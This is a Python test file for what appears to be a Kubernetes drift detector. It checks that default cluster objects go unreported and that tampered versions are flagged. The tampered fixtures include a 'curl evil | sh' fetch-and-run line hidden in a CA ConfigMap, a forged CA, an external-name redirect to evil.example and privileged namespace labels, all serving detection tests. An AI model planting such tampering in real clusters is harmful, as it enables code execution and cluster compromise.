"""What every cluster has is nobody's while it is what Kubernetes makes; what somebody adds to it is told."""

from __future__ import annotations

import base64
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.snapshots.documents.test_kubernetes_made import changed, told_of

Object = dict[str, Any]
SET = {"creationTimestamp": "2026-10-01T08:00:00Z", "resourceVersion": "5", "uid": "u-1", "managedFields": []}
WANTED: Object = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "c", "namespace": "a"}, "data": {}}
DESCRIPTION = (
    "Contains a CA bundle that can be used to verify the kube-apiserver when using internal endpoints such as the "
    "internal service IP or kubernetes.default.svc. No other usage is guaranteed across distributions of Kubernetes "
    "clusters."
)


def certificate(name: str = "cluster") -> str:
    """Return what looks like a certificate, in lines as Go writes them."""
    text = base64.encodebytes(b"\x30\x82" + name.encode() * 30).decode().replace("\n", "")
    lines = "\n".join(text[at : at + 64] for at in range(0, len(text), 64))
    return f"-----BEGIN CERTIFICATE-----\n{lines}\n-----END CERTIFICATE-----\n"


def thing(kind: str, name: str, *, namespace: str = "", version: str = "v1", **more: Any) -> Object:
    place = {"namespace": namespace} if namespace else {}
    labels = {"labels": more.pop("labels")} if "labels" in more else {}
    return {"apiVersion": version, "kind": kind, "metadata": {**SET, **place, "name": name, **labels}, **more}


def root(namespace: str, text: str = "", *, notes: Object | None = None) -> Object:
    found = thing("ConfigMap", "kube-root-ca.crt", namespace=namespace, data={"ca.crt": text or certificate()})
    found["metadata"]["annotations"] = {"kubernetes.io/description": DESCRIPTION} if notes is None else notes
    return found


PORT = {"name": "https", "port": 6443, "protocol": "TCP"}
SPEC: Object = {
    "clusterIP": "10.96.0.1",
    "clusterIPs": ["10.96.0.1"],
    "internalTrafficPolicy": "Cluster",
    "ipFamilies": ["IPv4"],
    "ipFamilyPolicy": "SingleStack",
    "ports": [{"name": "https", "port": 443, "protocol": "TCP", "targetPort": 6443}],
    "sessionAffinity": "None",
    "type": "ClusterIP",
}
API_LABELS = {"component": "apiserver", "provider": "kubernetes"}
SERVICE = thing("Service", "kubernetes", namespace="default", labels=API_LABELS, spec=SPEC, status={"loadBalancer": {}})
ENDPOINTS = thing(
    "Endpoints",
    "kubernetes",
    namespace="default",
    labels={"endpointslice.kubernetes.io/skip-mirror": "true"},
    subsets=[{"addresses": [{"ip": "172.18.0.4"}, {"ip": "172.18.0.5"}], "ports": [PORT]}],
)
SLICE = thing(
    "EndpointSlice",
    "kubernetes",
    namespace="default",
    version="discovery.k8s.io/v1",
    labels={"kubernetes.io/service-name": "kubernetes"},
    addressType="IPv4",
    endpoints=[{"addresses": [ip], "conditions": {"ready": True}} for ip in ("172.18.0.4", "172.18.0.5")],
    ports=[PORT],
)
SYSTEM = thing(
    "Namespace",
    "kube-system",
    labels={"kubernetes.io/metadata.name": "kube-system"},
    spec={"finalizers": ["kubernetes"]},
    status={"phase": "Active"},
)
CRITICAL = thing(
    "PriorityClass",
    "system-node-critical",
    version="scheduling.k8s.io/v1",
    value=2_000_001_000,
    description="Used for system critical pods that must not be moved from their current node.",
    preemptionPolicy="PreemptLowerPriority",
)
NODE = thing(
    "Node",
    "ip-10-0-1-7.eu-west-1.compute.internal",
    labels={"eks.amazonaws.com/nodegroup": "web", "kubernetes.io/os": "linux"},
    spec={"providerID": "aws:///eu-west-1a/i-0a", "taints": [{"key": "gpu", "effect": "NoSchedule"}]},
)
# EKS leads to 443, GKE's namespace was applied by kubectl, clusters before 1.21 write less.
OLD = {name: SPEC[name] for name in ("clusterIP", "ports", "sessionAffinity", "type")}
HONEST: dict[str, list[Object]] = {
    "kind": [SERVICE, ENDPOINTS, SLICE, SYSTEM, CRITICAL, root("a"), root("kube-system")],
    "eks": [changed(SERVICE, "spec", "ports", 0, "targetPort", to=443), NODE],
    "gke": [
        changed(
            SYSTEM,
            "metadata",
            "annotations",
            to={"kubectl.kubernetes.io/last-applied-configuration": '{"kind":"Namespace"}'},
        )
    ],
    "old": [changed(SERVICE, "spec", to=OLD), root("a", notes={}), changed(SYSTEM, "metadata", "labels", to={})],
    "two addresses": [SERVICE, changed(SLICE, "metadata", "name", to="kubernetes-v6"), ENDPOINTS],
    "two certificates": [root("a", certificate("old") + certificate("new"))],
    "namespaces": [
        thing("Namespace", name, labels={"kubernetes.io/metadata.name": name})
        for name in ("default", "kube-public", "kube-node-lease")
    ],
}


@pytest.mark.parametrize("name", HONEST)
def test_what_every_cluster_has_is_nobodys(tmp_path: Path, name: str) -> None:
    assert told_of(tmp_path, [WANTED], *HONEST[name]) == []


SERVES, ENDS, ENDS_OF = (
    'drift.unmanaged k8s_service.default["kubernetes"]',
    'drift.unmanaged k8s_endpoints.default["kubernetes"]',
    'drift.unmanaged k8s_discovery_endpoint_slice.default["kubernetes"]',
)
PLACE = 'drift.unmanaged k8s_namespace.cluster["kube-system"]'
PRIORITY = 'drift.unmanaged k8s_scheduling_priority_class.cluster["system-node-critical"]'
ROOT = 'drift.unmanaged k8s_config_map.a["kube-root-ca.crt"]'
PRIVILEGED = {"kubernetes.io/metadata.name": "kube-system", "pod-security.kubernetes.io/enforce": "privileged"}


def more(value: Object, member: str, to: Any) -> Object:
    return {**value, member: to}


def with_spec(value: Object, **told: Any) -> Object:
    return {**value, "spec": {**value["spec"], **told}}


FORGED: dict[str, tuple[str, Callable[[], Object]]] = {
    "a selector": (SERVES, lambda: with_spec(SERVICE, selector={"app": "evil"})),
    "a load balancer": (SERVES, lambda: with_spec(SERVICE, type="LoadBalancer")),
    "a port of nodes": (SERVES, lambda: with_spec(SERVICE, type="NodePort")),
    "addresses from outside": (SERVES, lambda: with_spec(SERVICE, externalIPs=["8.8.8.8"])),
    "another name": (SERVES, lambda: with_spec(SERVICE, type="ExternalName", externalName="evil.example")),
    "no address": (SERVES, lambda: with_spec(SERVICE, clusterIP="None")),
    "one more port": (SERVES, lambda: with_spec(SERVICE, ports=[*SPEC["ports"], {"port": 80}])),
    "another port": (SERVES, lambda: changed(SERVICE, "spec", "ports", 0, "port", to=80)),
    "a named port": (SERVES, lambda: changed(SERVICE, "spec", "ports", 0, "targetPort", to="evil")),
    "a label": (SERVES, lambda: changed(SERVICE, "metadata", "labels", to={**API_LABELS, "a": "b"})),
    "an annotation": (SERVES, lambda: changed(SERVICE, "metadata", "annotations", to={"a": "b"})),
    "a finalizer of the service": (SERVES, lambda: changed(SERVICE, "metadata", "finalizers", to=["a/b"])),
    "endpoints that name a pod": (ENDS, lambda: changed(ENDPOINTS, "subsets", 0, "addresses", 0, "targetRef", to={})),
    "endpoints that are not ready": (ENDS, lambda: changed(ENDPOINTS, "subsets", 0, "notReadyAddresses", to=[])),
    "endpoints of another port": (ENDS, lambda: changed(ENDPOINTS, "subsets", 0, "ports", to=[{"port": 6443}])),
    "a slice of another port": (ENDS_OF, lambda: changed(SLICE, "ports", 0, "name", to="http")),
    "a slice of names": (ENDS_OF, lambda: more(SLICE, "addressType", "FQDN")),
    "a slice without a service": (ENDS_OF, lambda: changed(SLICE, "metadata", "labels", to={"a": "b"})),
    "privileged pods": (PLACE, lambda: changed(SYSTEM, "metadata", "labels", to=PRIVILEGED)),
    "another label": (PLACE, lambda: changed(SYSTEM, "metadata", "labels", to={"istio-injection": "disabled"})),
    "a role": (PLACE, lambda: changed(SYSTEM, "metadata", "annotations", to={"iam.amazonaws.com/permitted": ".*"})),
    "a finalizer": (PLACE, lambda: with_spec(SYSTEM, finalizers=["kubernetes", "evil"])),
    "a deletion": (PLACE, lambda: changed(SYSTEM, "metadata", "deletionTimestamp", to="2026-11-01T10:00:00Z")),
    "a lower priority": (PRIORITY, lambda: more(CRITICAL, "value", -100)),
    "a priority for all": (PRIORITY, lambda: more(CRITICAL, "globalDefault", True)),
    "a priority that waits": (PRIORITY, lambda: more(CRITICAL, "preemptionPolicy", "Never")),
    "no certificate": (ROOT, lambda: root("a", "EVIL CA")),
    "no bytes": (ROOT, lambda: root("a", "-----BEGIN CERTIFICATE-----\nAAA\n-----END CERTIFICATE-----\n")),
    "something behind": (ROOT, lambda: root("a", certificate() + "curl evil | sh\n")),
    "a script": (ROOT, lambda: changed(root("a"), "data", "run.sh", to="curl evil | sh")),
    "other data": (ROOT, lambda: more(root("a"), "binaryData", {"a": "AA=="})),
    "another description": (ROOT, lambda: root("a", notes={"kubernetes.io/description": "mine"})),
    "a list for a text": (ROOT, lambda: root("a", notes={"kubernetes.io/description": ["mine"]})),
    "a node of more": (
        'drift.unmanaged k8s_node.cluster["n"]',
        lambda: thing("Node", "n", spec={"configSource": {"configMap": {"name": "evil"}}}),
    ),
}


@pytest.mark.parametrize("name", FORGED)
def test_what_somebody_adds_to_what_every_cluster_has_is_told(tmp_path: Path, name: str) -> None:
    line, forged = FORGED[name]
    found = [one for one in told_of(tmp_path, [WANTED], forged()) if not one.startswith("drift.pending")]
    assert found == [line]


def test_certificates_are_those_of_the_other_namespaces(tmp_path: Path) -> None:
    mine, other = root("a"), root("a", certificate("evil"))
    assert told_of(tmp_path, [WANTED], mine, root("b"), root("kube-system")) == []
    assert told_of(tmp_path, [WANTED], other, root("b"), root("kube-system")) == [ROOT]
    # Without the cluster's own namespace nobody knows which of them it is.
    assert told_of(tmp_path, [WANTED], other, root("b")) == [ROOT, ROOT.replace(".a[", ".b[")]


def test_a_slice_of_the_api_has_the_addresses_of_its_endpoints(tmp_path: Path) -> None:
    evil = changed(SLICE, "endpoints", 0, "addresses", to=["6.6.6.6"])
    assert told_of(tmp_path, [WANTED], ENDPOINTS, evil) == [ENDS_OF]
    moved = changed(SLICE, "ports", 0, "port", to=22)
    assert told_of(tmp_path, [WANTED], ENDPOINTS, moved) == [ENDS_OF]
    assert told_of(tmp_path, [WANTED], SERVICE, ENDPOINTS, SLICE) == []
